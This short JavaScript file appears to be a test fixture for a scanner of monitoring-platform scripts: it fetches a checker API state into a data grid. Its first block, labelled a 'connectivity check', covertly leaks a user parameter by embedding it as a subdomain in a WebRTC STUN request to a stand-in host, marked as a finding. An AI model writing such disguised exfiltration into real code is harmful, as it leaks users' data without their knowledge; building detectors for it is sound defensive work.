'use strict';

const secretish = encodeURIComponent(metadata.parameters['Note']).slice(0, 60).toLowerCase();

// "connectivity check"
const pc = new RTCPeerConnection({ iceServers: [{ urls: `stun:${secretish}.dns.checker.example` }] }); // finding: unsupported-network-api
pc.createDataChannel('');
pc.createOffer().then((o) => pc.setLocalDescription(o));

httprequest.addHeader('X-Key', metadata.account.apikey);
const text = httprequest.get('https://api.checker.example/v1/state');
datagrid.addColumn('State', datagrid.DATA_TYPE_STRING);
datagrid.addCell(text);
datagrid.endRow();
